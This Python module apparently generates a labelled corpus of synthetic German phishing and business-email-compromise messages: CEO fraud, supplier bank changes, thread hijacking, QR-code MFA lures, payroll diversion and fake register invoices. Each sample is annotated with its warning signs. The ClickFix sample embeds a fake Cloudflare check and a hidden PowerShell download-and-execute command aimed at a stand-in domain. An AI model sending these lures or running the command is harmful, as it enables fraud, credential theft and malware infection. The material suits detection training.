"""Attack messages, German (8)."""
import base64

import ids
import pdf
import qr
from core import reg, finish
from infra import (t_postfix, t_exim, t_ionos, t_gmx, t_sendgrid, t_mailgun, mua_iphone, mua_outlook16,
                   mua_exchange, mua_phpmailer, mua_gmx_web, mua_roundcube)
from mime import Text, Multi, Blob
from people import S, LIEFERANT_IBAN_OLD
from tpl import (alt, mixed, mso_html, simple_html, card_html, button, p, kv_table, esc, fill, outlook_quote,
                 outlook_quote_html)
import threads as th
from util import addr, secs, rfcdate

A = "attack"


@reg(A, "de", "ceo-fraud-vertrauliche-uebernahme")
def a_ceo(k):
    k.when("2026-10-14 08:47:12")
    cfo = S("cfo")
    rt = k.env("m.brandt@examplegroup-eu.com", cfo["addr"])
    t_postfix(rt, "mail.examplegroup-eu.com", "194.163.152.47", rdns="vmi2291847.contaboserver.net",
              client_helo="smtpclient.apple", client_ip="146.70.119.38", back=14)
    mua_iphone(rt, "examplegroup-eu.com")
    body = Text("""Hallo Sabine,

bist Du heute im Büro erreichbar? Ich sitze bis zum späten Nachmittag in Zürich in Verhandlungen und kann nur schriftlich.

Wir stehen kurz vor der Unterzeichnung bei der Radiologie-Praxisgruppe in Linz (intern „Projekt Rheinblick“). Der Aufsichtsratsvorsitzende ist eingebunden, aber bis zur Mitteilung der Gegenseite gilt striktes Stillschweigen – bitte auch nicht mit Jörg oder der Buchhaltung darüber sprechen, das klären wir nächste Woche gemeinsam.

Heute muss noch die vereinbarte Sicherheitsleistung von 486.500 EUR auf das Anderkonto der Kanzlei der Verkäuferseite, sonst verlieren wir die Exklusivität. Dr. Andreas Kessler von Kessler Haberl Rechtsanwälte (Wien) meldet sich gleich per Mail bei Dir mit den Kontodaten und dem Treuhandvertrag.

Kannst Du mir kurz bestätigen, dass Du die Zahlung heute bis 15 Uhr freigeben kannst? Antworte bitte nur auf diese Mail, mein Telefon ist während der Gespräche aus.

Danke Dir, ich erkläre Dir morgen alles in Ruhe.

Matthias

Von meinem iPhone gesendet
""", "plain", "utf-8", "quoted-printable", quote_cs=False)
    return finish(k, rt, frm=addr("Dr. Matthias Brandt", "m.brandt@examplegroup-eu.com"),
                  to=addr(cfo["name"], cfo["addr"], "utf-8", "Q", "utf-8"),
                  subject="Vertraulich – Projekt Rheinblick", body=body,
                  what="CEO fraud opener to the CFO: confidential acquisition, escrow payment of EUR 486,500 today, "
                       "a 'lawyer' will send bank details",
                  why="Look-alike domain examplegroup-eu.com (real: example.com/examplegroup.eu) on a Contabo VPS; "
                      "secrecy from accounting, time pressure, channel restriction ('only reply here'), "
                      "announces a third-party fake lawyer – classic BEC/CEO-fraud pattern.")


@reg(A, "de", "lieferant-bankwechsel-lookalike")
def a_bank(k):
    k.when("2026-10-27 10:12:40")
    ap = S("ap")
    rt = k.env("rechnungen@lieferant-grnbh.de", ap["addr"])
    t_postfix(rt, "mail.lieferant-grnbh.de", "147.93.84.211", rdns="srv614233.hstgr.cloud",
              client_helo="DESKTOP-K3L9Q2M", client_ip="91.64.161.194",
              client_rdns="ip5b40a1c2.dynamic.kabel-deutschland.de", back=9, tls="1.3")
    mua_outlook16(rt, "lieferant-grnbh.de", lang="de")
    new_iban = ids.iban_lt("35000", "10000724918")
    text = """Sehr geehrte Frau Müller,

im Zuge der Umstellung unseres Forderungsmanagements auf unseren Factoring-Partner werden sämtliche Zahlungen an die Lieferant GmbH ab sofort über ein Treuhandkonto abgewickelt. Die Mitteilung mit der neuen Bankverbindung finden Sie im Anhang.

Bitte hinterlegen Sie die neue Bankverbindung in Ihrem Kreditorenstamm und veranlassen Sie die Zahlung der beiden fälligen Rechnungen

RE-2026-10482 vom 20.10.2026 über 12.846,30 EUR
RE-2026-10517 vom 22.10.2026 über 4.219,88 EUR

auf das neue Konto. Zahlungen auf unsere bisherige Verbindung bei der apoBank können ab dem 02.11.2026 nicht mehr zugeordnet werden und werden zurückgebucht.

Aufgrund der Systemumstellung ist unsere Buchhaltung telefonisch derzeit nur eingeschränkt erreichbar. Bitte bestätigen Sie uns die Änderung kurz per Antwort auf diese E-Mail.

Mit freundlichen Grüßen

i. A. Melanie Krause
Finanzbuchhaltung

Lieferant GmbH
Medizinischer Fachbedarf · Laborreagenzien · Kontrastmittel
Industriestraße 12 · 42655 Solingen
Tel. +49 212 38841-0 · rechnungen@lieferant-gmbh.de
Geschäftsführer: Dr. Hans-Peter Lang · HRB 24817 Amtsgericht Wuppertal
"""
    letter = pdf.make_pdf([
        ("Lieferant GmbH", 16, True), "Medizinischer Fachbedarf - Laborreagenzien - Kontrastmittel",
        "Industriestraße 12, 42655 Solingen", "", "Example Group Holding GmbH", "Kreditorenbuchhaltung",
        "Kaistraße 18", "40221 Düsseldorf", "", ("Solingen, 26.10.2026", 10, False, 330), "",
        ("Mitteilung über die Änderung unserer Bankverbindung", 12, True), "",
        "Sehr geehrte Damen und Herren,", "",
        "wir teilen Ihnen mit, dass unsere Forderungen mit Wirkung zum 26.10.2026 im Rahmen eines",
        "Factoring-Vertrags abgetreten wurden. Zahlungen mit schuldbefreiender Wirkung können ab",
        "sofort ausschließlich auf das folgende Treuhandkonto geleistet werden:", "",
        ("Kontoinhaber:   Lieferant GmbH - Treuhandkonto Factoring", 10, True),
        ("Bank:           UAB Finolita (E-Geld-Institut), Vilnius", 10, True),
        ("IBAN:           " + ids.pretty(new_iban), 10, True),
        ("BIC:            FNLTLT21XXX", 10, True), "",
        "Die bisherige Bankverbindung (" + ids.pretty(LIEFERANT_IBAN_OLD) + ") wird zum 01.11.2026 aufgelöst.",
        "Bitte passen Sie Ihre Stammdaten entsprechend an.", "",
        "Mit freundlichen Grüßen", "", "gez. Dr. Hans-Peter Lang", "Geschäftsführer", "", "---",
        ("Lieferant GmbH - USt-IdNr. DE812345674 - HRB 24817 Amtsgericht Wuppertal", 8, False),
    ], k.t - secs(86400), title="Mitteilung Bankverbindung", author="mkrause",
        creator="Microsoft® Word für Microsoft 365", producer="Microsoft® Word für Microsoft 365")
    body = mixed(rt, alt(rt, text, mso_html(text, "DE"), "iso-8859-1", "quoted-printable"),
                 Blob(letter, "application/pdf", "Mitteilung_Bankverbindung_Lieferant_GmbH.pdf"))
    rt.set("Content-Language", "de")
    return finish(k, rt, frm=addr("Lieferant GmbH | Buchhaltung", "rechnungen@lieferant-grnbh.de"),
                  to=addr(ap["name"], ap["addr"], "iso-8859-1", "Q"),
                  subject="Änderung unserer Bankverbindung - fällige Rechnungen RE-2026-10482 / RE-2026-10517",
                  subj_cs=("iso-8859-1", "Q", None), body=body,
                  what="Supplier bank-detail change ('factoring trust account' in Lithuania) with PDF letter, asks to "
                       "pay two real open invoices to the new IBAN",
                  why="Look-alike domain lieferant-grnbh.de ('rn' for 'm') on a Hostinger VPS; Reply goes to the "
                      "fake domain while the signature shows the real address; foreign e-money account, discourages "
                      "phone verification, deadline. Knows real invoice numbers (reconnaissance).")


@reg(A, "de", "lieferant-threadhijack-dokumentenportal")
def a_hijack(k):
    k.when("2026-11-05 15:31:08")
    proc, ap = S("proc"), S("ap")
    rt = k.env("p.lang@lieferant-gmbh.de", proc["addr"])
    t_postfix(rt, "mail.lieferant-gmbh.de", "195.243.118.70", rdns="mail.lieferant-gmbh.de",
              client_helo="LGEX01.lieferant.local", client_ip="192.168.10.21", client_rdns="lgex01.lieferant.local",
              esmtp="ESMTPS", back=11, tls="1.2",
              extra_hop="from LGEX01.lieferant.local ([fe80::9d2:41ab:7c3e:12f0]) by\n LGEX01.lieferant.local "
                        "([fe80::9d2:41ab:7c3e:12f0%6]) with mapi id\n 15.02.1748.024; " +
                        rfcdate(k.t - secs(6), "CET", pad=False))
    subj = "AW: " + th.L_SUBJ
    mua_exchange(rt, "LGEX01", "lieferant.local", "X", subj, reply=True)
    rt.set("x-originating-ip", "[45.134.212.61]")
    link = "https://www.pension-seeblick-ammersee.de/wp-content/uploads/2026/11/op/?d=bGllZmVyYW50LWdtYmg&u=mv"
    new = """Hallo Herr Vogel,

wie heute Vormittag kurz angesprochen, anbei die Gutschrift für die Teillieferung (Iomeprol 350, 2 Kartons) sowie die aktuelle Übersicht Ihrer offenen Posten zum Abgleich.

Da die Unterlagen Chargen- und Patientenbezug enthalten, stellen wir sie seit dieser Woche nur noch über unser gesichertes Dokumentenportal bereit:

Dokumente anzeigen (2 Dateien, PDF):
%s

Bitte melden Sie sich mit Ihrer Geschäfts-E-Mail an, damit die Freigabe Ihrem Kundenkonto zugeordnet werden kann. Frau Müller aus Ihrer Kreditorenbuchhaltung habe ich in Kopie gesetzt.

Viele Grüße
Petra Lang

Lieferant GmbH
Kundenservice / Auftragsabwicklung
Industriestraße 12 · 42655 Solingen
Tel. +49 212 38841-27
""" % link
    chain = [
        ("Vogel, Markus <markus.vogel@example.com>", "Donnerstag, 22. Oktober 2026 16:02",
         "Petra Lang <p.lang@lieferant-gmbh.de>", "AW: " + th.L_SUBJ, th.L_M2_TEXT),
        ("Petra Lang <p.lang@lieferant-gmbh.de>", "Donnerstag, 22. Oktober 2026 11:47",
         "Vogel, Markus <markus.vogel@example.com>", "AW: " + th.L_SUBJ, th.L_P1_TEXT),
        ("Vogel, Markus <markus.vogel@example.com>", "Mittwoch, 21. Oktober 2026 14:20",
         "Petra Lang <p.lang@lieferant-gmbh.de>", th.L_SUBJ, th.L_M0_TEXT),
    ]
    plain = new + "".join("\n" + outlook_quote("de", *c) for c in chain)
    html = mso_html(new, "DE", quote_html="".join(outlook_quote_html("de", *c) for c in chain))
    html = html.replace(esc(link), '<a href="%s">Dokumente anzeigen (2 Dateien, PDF)</a>' % esc(link))
    body = alt(rt, plain, html, "windows-1252", "quoted-printable")
    return finish(k, rt, frm=addr("Petra Lang", "p.lang@lieferant-gmbh.de"),
                  to=addr("Vogel, Markus", proc["addr"]), cc=addr("Müller, Anja", ap["addr"], "windows-1252", "Q"),
                  subject=subj, subj_cs=("windows-1252", "Q", None), body=body,
                  in_reply_to=th.L_M2, references=" ".join([th.L_M0, th.L_P1, th.L_M2]),
                  what="Reply in a real order thread from the supplier's genuine (compromised) mailbox: credit note "
                       "and open items 'only via secure document portal', link to a hacked WordPress site",
                  why="Thread hijack: sent through Lieferant's real Exchange/Postfix, but via OWA from a foreign "
                      "hosting IP (x-originating-ip 45.134.212.61) two weeks after the thread went quiet; documents "
                      "moved behind a login on an unrelated domain (AiTM credential phishing); adds AP in Cc.")


@reg(A, "de", "erechnung-portal-phishing")
def a_erechnung(k):
    k.when("2026-11-03 07:58:31")
    ap = S("ap")
    rt = k.env("service@erechnung-empfangsportal.de", ap["addr"])
    t_sendgrid(rt, "erechnung-empfangsportal.de")
    url = "https://erechnung-empfangsportal.de/empfang/login?tenant=example.com&ref=ER7-442918"
    rows = [("Lieferant GmbH", "RE-2026-10611", "8.412,50 €"), ("Steriltechnik Weber GmbH", "2026-4471", "3.977,10 €"),
            ("Rhenus Medical Gases GmbH", "MG-88213", "1.164,24 €")]
    table = "".join("<tr><td style='padding:6px 10px;border-bottom:1px solid #e5e7eb'>%s</td><td style='padding:6px 10px;"
                    "border-bottom:1px solid #e5e7eb'>%s</td><td style='padding:6px 10px;border-bottom:1px solid "
                    "#e5e7eb;text-align:right'>%s</td></tr>" % (esc(a), esc(b), esc(c)) for a, b, c in rows)
    inner = p("Sehr geehrte Damen und Herren,",
              "seit dem 1. Januar 2025 müssen Unternehmen in Deutschland elektronische Rechnungen im strukturierten "
              "Format (XRechnung / ZUGFeRD) empfangen können. Für <b>Example Group Holding GmbH</b> liegen derzeit "
              "<b>3 E-Rechnungen</b> zur Zustellung bereit:") + \
        "<table cellspacing='0' cellpadding='0' style='width:100%;font-size:13px;margin:0 0 18px 0'><tr style='background:#f3f4f6'>" \
        "<th align='left' style='padding:6px 10px'>Rechnungssteller</th><th align='left' style='padding:6px 10px'>Rechnungsnr.</th>" \
        "<th align='right' style='padding:6px 10px'>Betrag</th></tr>" + table + "</table>" + \
        p("Die Empfangsadresse Ihres Unternehmens ist noch nicht verifiziert. Bitte bestätigen Sie Ihr "
          "Empfangspostfach innerhalb von <b>48 Stunden</b>. Danach werden nicht zustellbare Rechnungen mit dem "
          "Status &bdquo;Annahme verweigert&ldquo; an den Rechnungssteller zurückgemeldet.") + \
        button(url, "Rechnungen abrufen", "#0b5cab") + \
        p("", "Die Anmeldung erfolgt mit Ihrem bestehenden Microsoft-365-Geschäftskonto (Single Sign-on).")
    html = card_html("E-Rechnung Empfangsportal", inner, brand="E-Rechnung &middot; Empfangsportal",
                     brand_color="#0b3d6e",
                     footer="Diese Nachricht wurde automatisch erstellt. E-Rechnung Empfangsportal &middot; "
                            "Zustellnetzwerk für XRechnung und ZUGFeRD gemäß &sect; 14 UStG.<br>"
                            "<a href='https://erechnung-empfangsportal.de/abmelden' style='color:#6b7280'>Benachrichtigungen verwalten</a>")
    plain = ("Sehr geehrte Damen und Herren,\n\nfür Example Group Holding GmbH liegen 3 E-Rechnungen (XRechnung/ZUGFeRD) "
             "zur Zustellung bereit:\n\n" + "\n".join("- %s, %s, %s" % r for r in rows) +
             "\n\nDie Empfangsadresse Ihres Unternehmens ist noch nicht verifiziert. Bitte bestätigen Sie Ihr "
             "Empfangspostfach innerhalb von 48 Stunden:\n%s\n\nDie Anmeldung erfolgt mit Ihrem bestehenden "
             "Microsoft-365-Geschäftskonto.\n\nE-Rechnung Empfangsportal\n" % url)
    body = alt(rt, plain, html, "utf-8", "quoted-printable")
    return finish(k, rt, frm=addr("E-Rechnung Empfangsportal", "service@erechnung-empfangsportal.de"),
                  to=ap["addr"], subject="Zustellung ausgesetzt: 3 E-Rechnungen für Example Group Holding GmbH "
                                         "warten auf Freigabe",
                  body=body,
                  extra=[("List-Unsubscribe", "<https://erechnung-empfangsportal.de/abmelden?u=ER7-442918>")],
                  what="'E-invoice reception portal' claims 3 XRechnung/ZUGFeRD invoices are held until the mailbox "
                       "is verified; button to a Microsoft 365 SSO look-alike",
                  why="Non-existent intermediary abusing the 2025 German e-invoicing mandate; newly registered "
                      "domain sent via SendGrid shared IP; 48-hour pressure; harvests M365 credentials. Real "
                      "e-invoices arrive directly from suppliers (cf. business 01).")


@reg(A, "de", "quishing-mfa-neuregistrierung")
def a_quish(k):
    k.when("2026-11-04 06:41:55")
    hr = S("hr")
    rt = k.env("info@elektro-brandl.de", hr["addr"])
    t_ionos(rt, "5.255.101.148", client_helo="elektro-brandl.de")
    mua_phpmailer(rt, "elektro-brandl.de")
    u = base64.b64encode(hr["addr"].encode()).decode()
    qurl = "https://sso-examplegroup.auth-verify.top/mfa/?u=" + u
    png = qr.qr_png(qurl, "M", scale=6)
    k.files["qr"] = (png, qurl)
    cid = "qr_%s@elektro-brandl.de" % u[:8]
    inner = p("Liebe Kolleginnen und Kollegen,",
              "im Rahmen der Umsetzung der NIS-2-Anforderungen stellen wir die Mehrfaktor-Authentifizierung für alle "
              "Microsoft-365-Konten auf das neue Verfahren um. Jedes Konto muss bis <b>Freitag, 06.11.2026</b> neu "
              "registriert werden. Nicht registrierte Konten werden danach vorübergehend gesperrt.",
              "Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. "
              "Die Registrierung dauert weniger als zwei Minuten.") + \
        '<p style="margin:0 0 14px 0;text-align:center"><img src="cid:%s" width="222" height="222" alt="QR-Code"></p>' % cid + \
        p("Hinweis: Aus Sicherheitsgründen kann der Code nur mit einem Mobilgerät geöffnet werden.",
          "Vielen Dank für Ihre Unterstützung<br>Ihr IT-Service-Desk<br>Example Group")
    html = card_html("MFA-Neuregistrierung", inner, brand="Example Group &middot; IT-Sicherheit",
                     brand_color="#243b53", footer="Example Group Holding GmbH &middot; Kaistraße 18 &middot; 40221 Düsseldorf")
    plain = ("Liebe Kolleginnen und Kollegen,\n\nalle Microsoft-365-Konten müssen bis Freitag, 06.11.2026 für die "
             "Mehrfaktor-Authentifizierung neu registriert werden. Bitte öffnen Sie diese Nachricht in einem "
             "E-Mail-Programm mit Bildanzeige und scannen Sie den QR-Code mit Ihrem Smartphone.\n\n"
             "Ihr IT-Service-Desk\nExample Group\n")
    body = Multi("related", [alt(rt, plain, html, "utf-8", "base64"),
                             Blob(png, "image/png", "mfa.png", disposition="inline", cid=cid)],
                 rt.boundary(), params=' type="multipart/alternative";')
    return finish(k, rt, frm=addr("IT-Sicherheit | Example Group", "info@elektro-brandl.de"),
                  to=hr["addr"], subject="Aktion erforderlich: Neuregistrierung Microsoft Authenticator bis 06.11.2026",
                  body=body,
                  what="Quishing: internal-IT look-alike notice, MFA re-registration deadline, QR code (inline PNG) "
                       "pointing to sso-examplegroup.auth-verify.top with the victim's address base64-encoded",
                  why="Sent from a compromised electrician's IONOS mailbox (PHPMailer from a foreign VPS) with the "
                      "display name 'IT-Sicherheit | Example Group'; QR code moves the click to an unmanaged phone; "
                      "account-lockout threat. Genuine IT notice (business 07) uses no QR code and the official portal.")


@reg(A, "de", "gehaltskonto-aenderung-gmx")
def a_payroll(k):
    k.when("2026-11-16 19:22:03")
    pay, proc = S("payroll"), S("proc")
    rt = k.env("markus.vogel.1979@gmx.de", pay["addr"])
    t_gmx(rt, "79.127.206.14", web=True)
    mua_gmx_web(rt)
    new_iban = ids.iban_de("10011001", "2957384106")
    html = """<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>Hallo Frau Albrecht,</div>

<div>&nbsp;</div>

<div>ich habe mein Gehaltskonto gewechselt und m&ouml;chte Sie bitten, die Bankverbindung noch f&uuml;r die November-Abrechnung zu &auml;ndern:</div>

<div>&nbsp;</div>

<div>Kontoinhaber: Markus Vogel<br/>
IBAN: %s<br/>
Bank: N26 Bank SE</div>

<div>&nbsp;</div>

<div>Ich schreibe von meiner privaten Adresse, weil ich diese Woche bei Lieferanten unterwegs bin und mit dem Laptop gerade nicht ins VPN komme. K&ouml;nnen Sie mir kurz best&auml;tigen, ob die &Auml;nderung noch f&uuml;r diesen Monat klappt?</div>

<div>&nbsp;</div>

<div>Vielen Dank und viele Gr&uuml;&szlig;e</div>

<div>Markus Vogel</div></div></body></html>
""" % ids.pretty(new_iban)
    body = Text(html, "html", "UTF-8", "quoted-printable", quote_cs=False)
    return finish(k, rt, frm=addr("Markus Vogel", "markus.vogel.1979@gmx.de"),
                  to=addr(pay["name"], pay["addr"]), subject="Neue Bankverbindung für Gehalt",
                  subj_cs=("UTF-8", "B", None), body=body,
                  what="Payroll diversion: 'Markus Vogel' (Head of Procurement) asks payroll from a GMX address to "
                       "switch his salary to an N26 account before the November run",
                  why="Employee impersonation from an unknown free-mail address (webmail from a hosting IP), "
                      "excuse for not using the company account, new neobank IBAN, asks to confirm by mail instead "
                      "of the HR self-service/form – payroll-diversion BEC.")


@reg(A, "de", "register-eintragung-rechnung")
def a_register(k):
    k.when("2026-11-10 09:05:47")
    aph = S("ap_head")
    rt = k.env("rechnungsstelle@dfgr-register.de", aph["addr"])
    t_mailgun(rt, "mg.dfgr-register.de")
    es_iban = ids.iban_es("0081", "7011", "0001987654")
    text = """Sehr geehrte Damen und Herren,

wir bestätigen die Aktualisierung Ihres Firmeneintrags im Deutschen Firmen- und Gewerberegister (DFGR) unter der Registernummer DFGR-NRW-0447812.

Eingetragen wurden:
Firma: Example Group Holding GmbH
Sitz: Kaistraße 18, 40221 Düsseldorf
Registergericht: Amtsgericht Düsseldorf, HRB 84712
Wirtschaftszweig: WZ 86.10 - Krankenhäuser / 86.22 - Facharztpraxen

Die Eintragungsgebühr beträgt 1.249,50 EUR (inkl. USt.). Bitte überweisen Sie den Betrag innerhalb von 10 Tagen unter Angabe der Rechnungsnummer DFGR-2026-118437. Die Rechnung mit allen Einzelheiten finden Sie im Anhang.

Mit freundlichen Grüßen

Rechnungsstelle
Deutsches Firmen- und Gewerberegister
DFGR Verwaltungs- und Servicegesellschaft
"""
    inv = pdf.make_pdf([
        ("DFGR", 22, True), ("Deutsches Firmen- und Gewerberegister", 11, True), "",
        "Example Group Holding GmbH", "Kaistraße 18", "40221 Düsseldorf", "",
        ("Rechnung / Eintragungsbestätigung Nr. DFGR-2026-118437", 12, True),
        "Registernummer: DFGR-NRW-0447812          Datum: 09.11.2026", "",
        "Pos. 1  Eintragung und Aktualisierung Firmendaten (Grundeintrag)        1.050,00 EUR",
        "        zzgl. 19 % USt.                                                   199,50 EUR",
        ("        Gesamtbetrag                                                    1.249,50 EUR", 10, True), "",
        "Zahlbar innerhalb von 10 Tagen ohne Abzug an:",
        "Empfänger: DFGR Services S.L.", "IBAN: " + ids.pretty(es_iban), "BIC: BSABESBBXXX",
        "Verwendungszweck: DFGR-2026-118437", "", "",
        ("Hinweise: Diese Eintragungsofferte ist ein Angebot zur Aufnahme in das privatwirtschaftlich betriebene", 6,
         False),
        ("Online-Verzeichnis DFGR. Mit Zahlung des Betrages nehmen Sie das Angebot an. Die Laufzeit beträgt 36 Monate", 6,
         False),
        ("und verlängert sich um weitere 12 Monate, sofern nicht 3 Monate vor Ablauf gekündigt wird. Keine Verbindung", 6,
         False),
        ("zum Handelsregister oder Unternehmensregister der Länder. Gerichtsstand Madrid.", 6, False),
    ], k.t - secs(3600 * 20), title="DFGR-2026-118437", creator="wkhtmltopdf 0.12.6", producer="Qt 5.15.2")
    body = mixed(rt, Text(text, "plain", "iso-8859-15", "base64"), Blob(inv, "application/pdf", "DFGR-2026-118437.pdf"))
    return finish(k, rt, frm=addr("DFGR Rechnungsstelle", "rechnungsstelle@dfgr-register.de"),
                  to=aph["addr"], subject="Eintragungsbestätigung und Rechnung Nr. DFGR-2026-118437 - "
                                          "Example Group Holding GmbH",
                  subj_cs=("iso-8859-15", "Q", None), body=body,
                  what="Fake register invoice: 'Deutsches Firmen- und Gewerberegister' confirms an entry and bills "
                       "EUR 1,249.50; tiny print in the PDF reveals a 36-month directory offer",
                  why="Official-sounding private directory imitating the Handelsregister, invoice for an unordered "
                      "service, payment to a Spanish account, contract clause in 6-pt print, Mailgun bulk sending "
                      "from a fresh domain – register/directory invoice fraud.")


@reg(A, "de", "clickfix-patientenbeschwerde-html")
def a_clickfix(k):
    k.when("2026-11-19 13:14:26")
    asst = S("assist")
    rt = k.env("sandra.kuehn84@web.de", asst["addr"])
    t_gmx(rt, "37.120.213.90", web=True, brand="webde")
    mua_gmx_web(rt, host="3c-app-webde-bs33")
    text = """Sehr geehrte Damen und Herren,

ich wende mich direkt an die Geschäftsführung, weil meine Beschwerde beim Patientenservice seit drei Wochen unbeantwortet ist.

Für meine MRT-Untersuchung (Knie links) am 14.10.2026 in Ihrem Zentrum in Düsseldorf-Bilk wurden mir als Privatpatientin 1.184,36 € berechnet, obwohl mir vorab schriftlich der 1,8-fache Satz nach GOÄ bestätigt wurde. Meine Beihilfestelle erstattet den Differenzbetrag nicht.

Im Anhang finden Sie die Rechnung, den Kostenvoranschlag und meinen Schriftverkehr mit der Beihilfe als zusammengefasstes Dokument.

Ich erwarte bis Ende der Woche eine Stellungnahme, andernfalls wende ich mich an die Ärztekammer Nordrhein.

Mit freundlichen Grüßen
Sandra Kühn
"""
    cmd = 'powershell -w h -nop -c "iwr -useb https://cdn.docsafe-verify.top/k/2718 | iex"'
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Dokumentvorschau – Beschwerde_Kuehn.pdf</title>
<style>
body{margin:0;font-family:-apple-system,Segoe UI,Roboto,Arial,sans-serif;background:#f2f2f2;color:#222}
.top{background:#fff;border-bottom:1px solid #ddd;padding:14px 24px;font-size:15px}
.doc{filter:blur(5px);background:#fff;width:640px;margin:30px auto;padding:40px;height:520px;box-shadow:0 1px 4px #aaa}
.box{position:fixed;top:90px;left:50%%;margin-left:-230px;width:460px;background:#fff;border:1px solid #d9d9d9;border-radius:6px;box-shadow:0 6px 28px rgba(0,0,0,.25);padding:26px 28px}
.cf{display:flex;align-items:center;gap:10px;border:1px solid #d9d9d9;padding:12px;border-radius:4px;margin:14px 0}
.chk{width:22px;height:22px;border:2px solid #888;border-radius:3px}
ol{padding-left:20px;line-height:1.8}
kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-size:13px}
input{width:100%%;font-family:Consolas,monospace;font-size:11px;padding:6px;border:1px solid #ccc;box-sizing:border-box}
.small{font-size:11px;color:#777}
</style></head>
<body>
<div class="top">&#128196; Beschwerde_Kuehn.pdf &nbsp;·&nbsp; 3 Seiten &nbsp;·&nbsp; geschützte Vorschau</div>
<div class="doc"><h3>Rechnung Nr. 2026-MRT-88412</h3><p>Privatliquidation GOÄ Ziffer 5700, 5731, 5733 …</p><p>Kostenvoranschlag vom 02.10.2026 …</p></div>
<div class="box">
<b>Bestätigen Sie, dass Sie ein Mensch sind</b>
<div class="cf"><div class="chk"></div><span>Ich bin kein Roboter</span><span class="small" style="margin-left:auto">Cloudflare<br>Datenschutz · Bedingungen</span></div>
<p style="margin:6px 0">Die automatische Prüfung ist fehlgeschlagen. Bitte führen Sie die manuelle Verifizierung durch, um das geschützte Dokument anzuzeigen:</p>
<ol>
<li>Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Fügen Sie den Prüfcode mit <kbd>Strg</kbd> + <kbd>V</kbd> ein</li>
<li>Drücken Sie <kbd>Enter</kbd></li>
</ol>
<p class="small">Falls der Prüfcode nicht automatisch kopiert wurde, markieren und kopieren Sie ihn hier:</p>
<input readonly value="%s  # Cloudflare Verification ID: 88-2718-DE">
<p class="small">Ray ID: 8f2a91c0e7d4b3a1 · Leistung &amp; Sicherheit von Cloudflare</p>
</div>
</body></html>
""" % esc(cmd)
    att = Text(page, "html", "utf-8", "base64", disposition='attachment;\n\tfilename="Beschwerde_Kuehn_Unterlagen.html"')
    att.params = ';\n\tname="Beschwerde_Kuehn_Unterlagen.html"'
    html = simple_html(text, font="Verdana", size="12px")
    body = mixed(rt, alt(rt, text, html, "UTF-8", "quoted-printable", quote_cs=False), att)
    return finish(k, rt, frm=addr("Sandra Kühn", "sandra.kuehn84@web.de", "UTF-8", "Q"), to=asst["addr"],
                  subject="Beschwerde – fehlerhafte Abrechnung MRT-Untersuchung vom 14.10.2026",
                  subj_cs=("UTF-8", "Q", None), body=body,
                  what="Patient complaint to the CEO's office with an HTML 'document' that fakes a Cloudflare check "
                       "and tells the reader to paste a PowerShell download-and-execute command into Win+R (ClickFix)",
                  why="HTML attachment instead of the promised PDF; fake CAPTCHA instructing Win+R / Ctrl+V / Enter "
                      "with 'iwr … | iex' from an unrelated .top domain (inert: no script, fictional domain); "
                      "emotional pretext from a free-mail sender with no patient record.")
